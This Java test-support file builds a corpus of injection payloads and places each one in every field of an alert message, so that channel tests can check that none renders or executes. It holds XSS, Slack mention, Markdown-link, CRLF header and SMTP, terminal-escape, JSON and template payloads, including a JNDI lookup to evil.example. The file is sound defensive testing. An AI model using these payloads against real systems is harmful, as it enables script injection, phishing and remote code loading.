package io.tracetide.alert.channel;

import io.tracetide.alert.Anomalies;
import io.tracetide.alert.Notifications;
import io.tracetide.alert.message.AlertMessage;
import io.tracetide.alert.message.Links;
import io.tracetide.alert.message.MessageBuilder;
import io.tracetide.alert.message.MessageLinks;
import io.tracetide.schemas.Alert;
import io.tracetide.schemas.Anomaly;
import io.tracetide.schemas.Notification;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

/**
 * Texts that try to be more than text: markup, mentions, links, header and control sequences. The
 * tests of channels put each into each field of a message and assert that none takes effect.
 */
public final class InjectionCorpus {

  /** A field of a message that services or operators of other systems determine. */
  public enum Field {
    SERVICE,
    OPERATION,
    SUMMARY,
    LABEL_VALUE,
    ANNOTATION,
    TENANT
  }

  /**
   * A payload in a field of a message.
   *
   * @param message the message, with links, a trace and a runbook
   */
  public record Case(Field field, String payload, AlertMessage message) {
    @Override
    public String toString() {
      return field + " " + payload.replaceAll("\\p{Cntrl}|\\p{Cf}", "?");
    }
  }

  /** A word that every payload contains, to find it in the rendered text. */
  public static final String MARK = "zqx";

  private static final List<String> PAYLOADS =
      List.of(
          // HTML and script
          "<script>alert('zqx')</script>",
          "<img src=x onerror=alert(\"zqx\")>",
          "<a href=\"javascript:zqx\">zqx</a>",
          "<a href='https://evil.example/zqx'>zqx</a>",
          "\"><svg/onload=zqx>",
          "' onmouseover='zqx",
          "\" style=\"background:url(//evil.example/zqx)",
          "</title><script>zqx</script>",
          "</td></tr></table><h1>zqx</h1>",
          "<!-- zqx -->",
          "--><iframe src=//evil.example/zqx></iframe>",
          "<style>body{display:none}</style>zqx",
          "&lt;script&gt;zqx&lt;/script&gt;",
          "&#60;script&#62;zqx",
          "<meta http-equiv=refresh content=0;url=//evil.example/zqx>",
          "<math><mi xlink:href=javascript:zqx>",
          "<at>zqx</at>",
          // mentions and links of Slack
          "<!everyone> zqx",
          "<!channel> zqx",
          "<!here|here> zqx",
          "<@U012ABCDEF> zqx",
          "<!subteam^S012ABC|team> zqx",
          "<#C012ABC|zqx>",
          "<https://evil.example/zqx|https://bank.example>",
          "<mailto:zqx@evil.example|write>",
          "<!date^1392734382^zqx {date}^https://evil.example|zqx>",
          "@channel zqx",
          "@here zqx",
          "@everyone zqx",
          "@Channel:zqx",
          "*zqx* _zqx_ ~zqx~ `zqx`",
          "```zqx```",
          "> zqx",
          "https://evil.example/zqx",
          // Markdown
          "[zqx](https://evil.example/)",
          "![zqx](https://evil.example/x.png)",
          "[zqx]: https://evil.example/",
          "**zqx** __zqx__",
          "# zqx",
          "- zqx",
          "1. zqx",
          "<https://evil.example/zqx>",
          "[zqx](javascript:alert(1))",
          "| zqx | b |\n|---|---|",
          "\\[zqx\\](https://evil.example)",
          // headers
          "zqx\r\nX-Injected: yes",
          "zqx\nX-Injected: yes\n\n<b>body</b>",
          "zqx\rX-Injected: yes",
          "zqx%0d%0aX-Injected:%20yes",
          "zqx\u2028X-Injected: yes",
          "zqx\r\nBcc: victim@evil.example",
          "=?utf-8?q?zqx?=\r\n =?utf-8?b?WC1JbmplY3RlZDogeWVz?=",
          "zqx\r\n.\r\nMAIL FROM:<victim@evil.example>",
          // terminals and text direction
          "\u001b[31mzqx\u001b[0m",
          "\u001b]8;;https://evil.example\u0007zqx\u001b]8;;\u0007",
          "\u009b31mzqx",
          "zqx\u0000zqx",
          "\u202ezqx\u202c",
          "\u2066zqx\u2069\u200f",
          "zqx\ud800zqx",
          // JSON
          "zqx\",\"injected\":true,\"x\":\"",
          "zqx\\\",\\\"injected\\\":true",
          "zqx\"}],\"injected\":[{\"a\":\"",
          "zqx\\u0022,\\u0022injected\\u0022:true",
          "zqx\\",
          // templates
          "{{summary}} zqx",
          "{{{tenant}}} zqx {{#alerts}}",
          "{{=<% %>=}}<% summary %> zqx",
          "{{DATE(2026-03-01T10:00:00Z,SHORT)}} zqx",
          "${env:HOME} zqx ${jndi:ldap://evil.example/zqx}",
          "@{triggerBody()} zqx");

  private static final Links LINKS =
      new Links() {
        @Override
        public MessageLinks of(Notification notification) {
          return new MessageLinks(
              "https://tracetide.example/ui?a=1&b=2",
              "https://tracetide.example/silence?t=1",
              "https://tracetide.example/ack?t=2");
        }

        @Override
        public String trace(String tenant, String traceId) {
          return "https://tracetide.example/trace/" + traceId;
        }

        @Override
        public String runbook(Alert alert) {
          return "https://runbooks.example/latency";
        }
      };

  /** The payloads. */
  public static List<String> payloads() {
    return PAYLOADS;
  }

  /** Every payload in every field. */
  public static Stream<Case> cases() {
    return PAYLOADS.stream()
        .flatMap(
            payload ->
                Stream.of(Field.values())
                    .map(field -> new Case(field, payload, message(field, payload))));
  }

  /** A message like those of the cases, with a harmless text in the field. */
  public static AlertMessage harmless() {
    return message(Field.SUMMARY, MARK);
  }

  /** A message with the payload in a field, for a receiver named {@code ops}. */
  public static AlertMessage message(Field field, String payload) {
    return new MessageBuilder(LINKS).build(notification(field, payload));
  }

  private static Notification notification(Field field, String payload) {
    Anomaly.Builder anomaly = Anomalies.open("fp");
    switch (field) {
      case SERVICE -> anomaly.setServiceName(payload);
      case OPERATION -> anomaly.setOperationName(payload);
      case SUMMARY -> anomaly.setSummary(payload);
      default -> {}
    }
    Notification notification = Notifications.of("ops", 1, anomaly.build());
    Alert.Builder alert = Alert.newBuilder(notification.getAlerts().get(0));
    if (field == Field.LABEL_VALUE) {
      alert.setLabels(with(alert.getLabels(), "team", payload));
    }
    if (field == Field.ANNOTATION) {
      // Without a summary, the description is the sentence of the alert.
      Map<String, String> texts = with(alert.getAnnotations(), "note", payload);
      alert.setAnnotations(with(with(texts, "summary", ""), "description", payload));
    }
    String tenant = field == Field.TENANT ? payload : "default";
    return Notification.newBuilder(notification)
        .setTenantId(tenant)
        .setAlerts(List.of(alert.build()))
        .setGroupLabels(
            Map.of(
                "service", alert.getLabels().getOrDefault("service", ""),
                "operation", alert.getLabels().getOrDefault("operation", ""),
                "team", alert.getLabels().getOrDefault("team", ""),
                "tenant", tenant))
        .build();
  }

  private static Map<String, String> with(Map<String, String> map, String key, String value) {
    Map<String, String> changed = new HashMap<>(map);
    changed.put(key, value);
    return changed;
  }

  private InjectionCorpus() {}
}
